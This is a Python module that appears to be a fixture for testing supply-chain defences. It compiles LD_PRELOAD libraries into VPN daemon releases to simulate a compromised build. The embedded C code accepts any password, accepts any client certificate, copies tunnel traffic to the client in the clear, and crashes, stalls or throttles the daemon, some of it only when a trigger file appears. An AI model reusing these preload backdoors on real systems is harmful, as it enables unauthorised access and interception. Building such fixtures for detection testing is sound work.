"""Spoiled releases: a whole daemon with a library that its processes load first, so that it does harm.

They are signed like any other, as a builder who was taken over would have it: the daemon's own test takes
the configuration, it starts, people log in, and only a test before exposure tells.
"""

import subprocess
from enum import Enum
from pathlib import Path

from policies.model.errors import Unavailable

PRELOAD = Path("etc/ld.so.preload")
LIBRARY = Path("usr/lib/libspoiled.so")

ALONE = 0.3
"""Seconds after the login before it from which one is alone for a release that refuses bursts."""


class Spoiled(Enum):
    """What the library does, as the C that it is made of."""

    LETS_ANYBODY_IN = """
        char *crypt(const char *phrase, const char *setting) { (void)phrase; return (char *)setting; }
    """
    """Every password has the digest that is in the list of users."""

    IS_SLOWER = """
        #include <sys/syscall.h>
        #include <time.h>
        #include <unistd.h>

        ssize_t write(int fd, const void *content, size_t size) {
            struct timespec now, begun;
            clock_gettime(CLOCK_MONOTONIC, &begun);
            do clock_gettime(CLOCK_MONOTONIC, &now);
            while ((now.tv_sec - begun.tv_sec) * 1000000000L + now.tv_nsec - begun.tv_nsec < 1500000);
            return syscall(SYS_write, fd, content, size);
        }
    """
    """Each packet that leaves a tunnel costs it 1.5 ms of the processor more, which no busy machine adds."""

    FORWARDS_IN_THE_CLEAR = """
        #include <netinet/in.h>
        #include <sys/socket.h>
        #include <sys/syscall.h>
        #include <unistd.h>

        static void copy_to_client(const void *packet, size_t size) {
            for (int fd = 0; fd < 64; fd++) {
                struct sockaddr_in peer;
                socklen_t length = sizeof peer;
                if (getpeername(fd, (struct sockaddr *)&peer, &length)) continue;
                if (peer.sin_family != AF_INET) continue;
                int out = socket(AF_INET, SOCK_DGRAM, 0);
                peer.sin_port = htons(9);
                sendto(out, packet, size, 0, (struct sockaddr *)&peer, sizeof peer);
                close(out);
                return;
            }
        }

        ssize_t write(int fd, const void *content, size_t size) {
            const unsigned char *packet = content;
            if (size >= 60 && packet[0] == 0x45 && (size_t)(packet[2] << 8 | packet[3]) == size)
                copy_to_client(content, size);
            return syscall(SYS_write, fd, content, size);
        }
    """
    """Whatever leaves a tunnel is also sent to its user over the network as it is."""

    LOSES_LARGE_PACKETS = """
        #include <sys/syscall.h>
        #include <unistd.h>

        ssize_t write(int fd, const void *content, size_t size) {
            const unsigned char *packet = content;
            if (size > 1400 && packet[0] == 0x45) return (ssize_t)size;
            return syscall(SYS_write, fd, content, size);
        }
    """
    """Large packets that leave a tunnel are lost."""


class SpoiledOpenVpn(Enum):
    """What does harm to an OpenVPN alone: ocserv checks certificates with GnuTLS, and reads in other ways."""

    TAKES_ANY_CERTIFICATE = """
        #define _GNU_SOURCE
        #include <dlfcn.h>

        typedef int (*Check)(int, void *);
        static Check own;

        static int anybody(int signed_by_somebody, void *certificate) {
            (void)signed_by_somebody;
            return own(1, certificate);
        }

        void SSL_CTX_set_verify(void *context, int mode, Check check) {
            void (*set)(void *, int, Check);
            *(void **)&set = dlsym(RTLD_NEXT, "SSL_CTX_set_verify");
            own = check;
            set(context, mode, check ? anybody : check);
        }
    """
    """Whoever has signed a client's certificate is taken for the authority."""

    DIES_OF_GARBAGE = """
        #include <sys/socket.h>
        #include <sys/syscall.h>
        #include <unistd.h>

        ssize_t recvmsg(int fd, struct msghdr *message, int flags) {
            ssize_t size = syscall(SYS_recvmsg, fd, message, flags);
            if (size == 1200 && ((const unsigned char *)message->msg_iov[0].iov_base)[0] == 0x50) _exit(1);
            return size;
        }
    """
    """One packet that is none ends it."""


class SpoiledForMany(Enum):
    """What does no harm to one user after the other, such as a probe, and some to those who come together."""

    REFUSES_BURSTS = f"""
        #define _GNU_SOURCE
        #include <dlfcn.h>
        #include <time.h>

        char *crypt(const char *phrase, const char *setting) {{
            static double last;
            char *(*right)(const char *, const char *) = dlsym(RTLD_NEXT, "crypt");
            struct timespec now;
            clock_gettime(CLOCK_MONOTONIC, &now);
            double at = now.tv_sec + now.tv_nsec / 1e9, since = at - last;
            last = at;
            return since < {ALONE} ? "*0" : right(phrase, setting);
        }}
    """
    """Who logs in sooner than `ALONE` after another is refused; who comes alone, as a probe does, is not."""

    IS_SLOW_TO_LET_IN = """
        #define _GNU_SOURCE
        #include <dlfcn.h>
        #include <unistd.h>

        char *crypt(const char *phrase, const char *setting) {
            char *(*right)(const char *, const char *) = dlsym(RTLD_NEXT, "crypt");
            usleep(1500000);
            return right(phrase, setting);
        }
    """
    """Each login takes 1.5 s more, one after the other."""


HARM = Path("etc/harm")
"""While this file is in the root of a release of `SpoiledLater`, it does harm."""


class SpoiledLater(Enum):
    """What turns bad while users are there: those with a session keep it, and those who come are refused."""

    REFUSES_PASSWORDS = f"""
        #define _GNU_SOURCE
        #include <dlfcn.h>
        #include <unistd.h>

        char *crypt(const char *phrase, const char *setting) {{
            char *(*right)(const char *, const char *) = dlsym(RTLD_NEXT, "crypt");
            return access("/{HARM}", F_OK) ? right(phrase, setting) : "*0";
        }}
    """
    """No password is right."""

    REFUSES_TUNNELS = f"""
        #include <errno.h>
        #include <linux/if_tun.h>
        #include <stdarg.h>
        #include <sys/ioctl.h>
        #include <sys/syscall.h>
        #include <unistd.h>

        int ioctl(int fd, unsigned long request, ...) {{
            va_list more;
            va_start(more, request);
            void *given = va_arg(more, void *);
            va_end(more);
            if (request == TUNSETIFF && !access("/{HARM}", F_OK)) {{ errno = EPERM; return -1; }}
            return syscall(SYS_ioctl, fd, request, given);
        }}
    """
    """The password is right, the user gets a cookie, and no device can be made for the tunnel."""

    DIES_IN_TUNNELS = f"""
        #include <sys/syscall.h>
        #include <unistd.h>

        static int harmful;

        __attribute__((constructor)) static void begin(void) {{ harmful = !access("/{HARM}", F_OK); }}

        ssize_t write(int fd, const void *content, size_t size) {{
            const unsigned char *packet = content;
            int four = size >= 20 && packet[0] >> 4 == 4 && (size_t)(packet[2] << 8 | packet[3]) == size;
            int six = size >= 40 && packet[0] >> 4 == 6 && (size_t)(packet[4] << 8 | packet[5]) == size - 40;
            if (harmful && (four || six)) _exit(1);
            return syscall(SYS_write, fd, content, size);
        }}
    """
    """The process of a new user dies of the first packet that comes through the tunnel."""

    HANGS_AT_LOGINS = f"""
        #define _GNU_SOURCE
        #include <dlfcn.h>
        #include <unistd.h>

        char *crypt(const char *phrase, const char *setting) {{
            char *(*right)(const char *, const char *) = dlsym(RTLD_NEXT, "crypt");
            while (!access("/{HARM}", F_OK)) usleep(20000);
            return right(phrase, setting);
        }}
    """
    """The process that looks at passwords stands still at the first one, and the daemon with it."""


def spoil(tree: Path, how: Spoiled | SpoiledOpenVpn | SpoiledForMany | SpoiledLater) -> None:
    """Put the library into the daemon's tree.

    Raises:
        Unavailable: there is no compiler here, or it refuses.
    """
    library = tree / LIBRARY
    library.parent.mkdir(parents=True, exist_ok=True)
    command = ["cc", "-shared", "-fPIC", "-Os", "-x", "c", "-o", str(library), "-"]
    try:
        subprocess.run(command, input=how.value, text=True, check=True, capture_output=True)
    except (OSError, subprocess.CalledProcessError) as error:
        raise Unavailable(f"a spoiled release needs a C compiler (`apt-get install gcc`): {error}") from error
    (tree / PRELOAD).parent.mkdir(exist_ok=True)
    (tree / PRELOAD).write_text(f"/{LIBRARY}\n")
